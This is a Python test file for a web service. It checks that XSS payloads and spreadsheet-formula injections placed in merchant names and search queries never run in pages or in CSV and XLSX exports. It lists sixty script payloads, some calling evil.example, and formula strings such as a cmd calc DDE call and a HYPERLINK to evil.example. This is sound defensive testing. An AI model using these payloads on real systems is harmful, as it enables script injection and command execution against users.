"""Scripts and formulas in what merchants are called and in what people type: none runs in the page, none is live in a file."""

from __future__ import annotations

import asyncio
import csv
import io
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from serving.access.callers import Access
from serving.access.keyring import Keyring
from serving.api.app import create_app
from serving.api.published import Published
from serving.ledger import Ledger
from serving.rules import Rules
from serving.run import publish
from serving.score import Scored

ACTS = ("alert(1)", "fetch('//evil.example')", "document.title='x'", "location='//evil.example'", "import('//evil.example')")
FRAMES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}",
    '<a href="javascript:{}">x</a>',
    '<iframe srcdoc="<script>{}</script>">',
    '<div hx-on:load="{}" hx-get="/x" hx-trigger="load">',
)
SCRIPTS = tuple(frame.format(act) for frame in FRAMES for act in ACTS)
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " =", "\u00a0=", "\ufeff=", "＋", "－", "＠", "'=", '"=', "\u200b=", "\x0b=", "=+-@", "\u3000=")
FORMULAS = tuple(start + body for start in STARTS for body in ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")'))
NOW = "2026-01-02T08:00:00+00:00"
LIVE = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")


class Browser:
    """Asks the service without a network."""

    def __init__(self, app: Any) -> None:
        self.app = app

    def get(self, path: str, params: dict[str, str] | None = None) -> httpx.Response:
        async def asked() -> httpx.Response:
            transport = httpx.ASGITransport(self.app, raise_app_exceptions=False, client=("127.0.0.1", 1))
            async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as http:
                return await http.get(path, params=params)

        return asyncio.run(asked())


class Active(HTMLParser):
    """Everything in a page that would run or load something of a stranger's."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if (tag == "script" and not given.get("src", "").startswith("/static/")) or tag in ("iframe", "object", "embed"):
            self.found.append(f"{tag} {given}")
        for name, value in given.items():
            is_handler = name.startswith("on") or name.startswith("hx-on")
            leads = name in ("href", "src", "action", "formaction", "hx-get", "hx-post") and value.strip().lower().startswith(("javascript:", "data:text", "//"))
            if is_handler or leads:
                self.found.append(f"{tag} {name}={value}")


def active(page: str) -> list[str]:
    parser = Active()
    parser.feed(page)
    return parser.found


@pytest.fixture(scope="module")
def http(scored: Scored, rules: Rules, tmp_path_factory: pytest.TempPathFactory) -> Browser:
    """The service over merchants that are called so, in turns."""
    crowd, payloads = scored.tables["merchants"].copy(), SCRIPTS + FORMULAS
    for column, first in (("name", 0), ("owner", 40)):  # sixty merchants, a hundred payloads: each is somewhere
        crowd[column] = [payloads[(row + first) % len(payloads)] for row in range(len(crowd))]
    assert {*crowd["name"], *crowd["owner"]} == {*payloads}
    state: Path = tmp_path_factory.mktemp("hostile")
    publish(state, scored.header, {**scored.tables, "merchants": crowd}, rules.text)
    ledger = Ledger.at(f"sqlite:///{state}/ledger.db")
    return Browser(create_app(Published(state), Access(Keyring(lambda: ledger, lambda: NOW), lambda: NOW)))


def test_there_are_sixty_scripts_and_forty_formulas_and_they_would_be_found() -> None:
    assert len(set(SCRIPTS)) == 60 and len(set(FORMULAS)) == 40
    assert sum(bool(active(f"<p>{one}</p><p title=\"{one}\"></p><p title='{one}'></p>")) for one in SCRIPTS) == 60


@pytest.mark.parametrize("path", ["/?show=all&size=200", "/?show=all&lang=zh", "/portfolio", "/model"])
def test_no_script_runs_in_a_page(http: Browser, path: str) -> None:
    answer = http.get(path)
    assert answer.status_code in (200, 422), path
    assert active(answer.text) == []
    assert "script-src 'self'" in answer.headers["content-security-policy"]


def test_no_script_runs_in_what_is_typed(http: Browser) -> None:
    for payload in SCRIPTS + FORMULAS:
        for path in ("/", "/find", "/v1/at-risk", "/v1/warnings"):
            answer = http.get(path, params={"q": payload})
            assert answer.status_code < 500, (path, payload)
            is_page = answer.headers.get("content-type", "").startswith("text/html")
            assert not is_page or active(answer.text) == [], (path, payload)
            assert is_page or answer.headers["x-content-type-options"] == "nosniff"


def test_no_formula_is_live_in_csv_and_xlsx(http: Browser) -> None:
    answer = http.get("/export.csv", params={"show": "all"})
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row if cell]
    assert len(rows) > 30
    assert [cell for cell in cells if cell.startswith(LIVE) and not _is_number(cell)] == []
    book = load_workbook(io.BytesIO(http.get("/export.xlsx", params={"show": "all"}).content))
    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(found) > 50 and [cell.value for cell in found if cell.data_type == "f" or cell.hyperlink] == []


def _is_number(cell: str) -> bool:
    try:
        return float(cell) is not None
    except ValueError:
        return False
